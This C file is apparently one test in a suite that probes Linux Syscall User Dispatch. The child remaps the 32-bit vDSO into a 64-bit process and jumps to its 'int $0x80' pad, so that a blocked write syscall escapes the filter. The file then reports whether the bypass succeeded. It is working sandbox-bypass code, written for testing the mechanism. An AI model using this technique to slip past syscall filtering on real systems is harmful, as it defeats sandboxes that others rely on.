/*
 * I7: the 32-bit vDSO holds an `int $0x80` whose calls Syscall User Dispatch lets pass, whatever
 * their number. A 64-bit process can map it in the place of its own vDSO. Natively the program arms
 * dispatch for itself, so that a call which is not exempt kills it.
 */
#include "attack.h"
#include <asm/prctl.h>

#define LOW_ADDRESS 0x20000000UL
#define I386_WRITE  4

static int channel[2];

/* The mappings whose names begin so, which lie side by side. */
static struct range find_named(const char *name)
{
    struct range found = {0, 0}, range;
    char line[512];
    FILE *maps = fopen("/proc/self/maps", "re");
    CHECK(maps != NULL, "/proc/self/maps: %s", strerror(errno));
    while (fgets(line, sizeof line, maps)) {
        if (strstr(line, name) && sscanf(line, "%lx-%lx", &range.start, &range.end) == 2) {
            found.start = found.start == 0 ? range.start : found.start;
            found.end = range.end;
        }
    }
    fclose(maps);
    return found;
}

/* The `int $0x80` of the vDSO's rt_sigreturn. */
static const void *find_pad(struct range vdso)
{
    static const uint8_t bytes[] = {0xb8, 173, 0, 0, 0, 0xcd, 0x80};
    const uint8_t *found =
        memmem((const void *)vdso.start, vdso.end - vdso.start, bytes, sizeof bytes);
    CHECK(found != NULL, "no landing pad in the 32-bit vDSO");
    return found + 5;
}

static void attempt(void)
{
    static volatile uint8_t selector;
    char *buffer =
        mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    struct range code = find_named("[vdso]"), data = find_named("[vvar");
    CHECK_EQ(raw(SYS_munmap, code.start, code.end - code.start), 0, "munmap of the vDSO");
    CHECK_EQ(raw(SYS_munmap, data.start, data.end - data.start), 0, "munmap of its data");
    long result = raw(SYS_arch_prctl, ARCH_MAP_VDSO_32, LOW_ADDRESS);
    if (result < 0) {
        _exit((int)-result);
    }
    const void *pad = find_pad(find_named("[vdso]"));
    raw(SYS_prctl, PR_SET_SYSCALL_USER_DISPATCH, 1, 0, 0, &selector);
    selector = 1; /* SYSCALL_DISPATCH_FILTER_BLOCK */
    __asm__ volatile("jmp *%%rsi"
                     :
                     : "S"(pad), "a"(I386_WRITE), "b"(channel[1]), "c"(buffer), "d"(1)
                     : "memory");
}

int main(void)
{
    char byte;
    MUST(pipe2(channel, O_NONBLOCK));
    int status = in_child(attempt);
    if (read(channel[0], &byte, 1) == 1) {
        reached();
    }
    not_reached("%s",
                WIFEXITED(status) ? strerrorname_np(WEXITSTATUS(status)) : ending_word(status));
}
